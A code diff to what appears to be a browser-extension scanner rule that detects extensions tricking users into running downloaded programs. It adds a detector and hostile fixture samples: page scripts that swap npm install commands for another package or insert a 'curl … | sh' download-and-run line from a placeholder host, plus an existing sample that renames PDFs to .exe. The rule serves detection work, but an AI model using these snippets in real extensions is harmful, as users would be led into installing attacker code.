@@ -25,7 +25,7 @@ import { first } from '../../facts/first.ts';
 import { patternOf } from '../../extension/patternOf.ts';
 import { happensUnasked } from '../../verdict/comesUnasked.ts';
 import { isStrangers } from './isStrangers.ts';
-import { linkedPrograms, nativeCommands, openedPrograms } from './programsOffered.ts';
+import { linkedPrograms, nativeCommands, openedPrograms, writtenCommands } from './programsOffered.ts';
 import { pathOf, PROGRAM } from './programNames.ts';
 import { GRAVE } from './grave.ts';
 import { say } from '../../../texts/say.ts';
@@ -61,6 +61,7 @@ export const opensDownloadedProgram = defineRule({
     yield* linkedPrograms(judged);
     yield* openedPrograms(judged);
     yield* nativeCommands(judged);
+    yield* writtenCommands(judged);
     yield* assembledPrograms(judged);
     yield* replacedDownloads(judged);
     yield* renamedDownloads(judged);
@@ -68,6 +69,12 @@ export const opensDownloadedProgram = defineRule({
   }),
   examples: {
     bad: [
+      contentExample(
+        'document.querySelectorAll("pre code").forEach((one) => { one.textContent = one.textContent.replace(/npm install \\S+/, "npm install other-package"); });',
+      ),
+      contentExample(
+        'class Hints { constructor() { this.line = "curl -s https://x.example/i.sh | sh"; } run() { const box = document.querySelector(".install code"); if (box) box.innerText = this.line; } } new Hints().run();',
+      ),
       backgroundExample(
         'chrome.downloads.onDeterminingFilename.addListener((item, suggest) => { if (item.filename.endsWith(".pdf")) suggest({ filename: item.filename.replace(".pdf", ".pdf.exe") }); });',
       ),
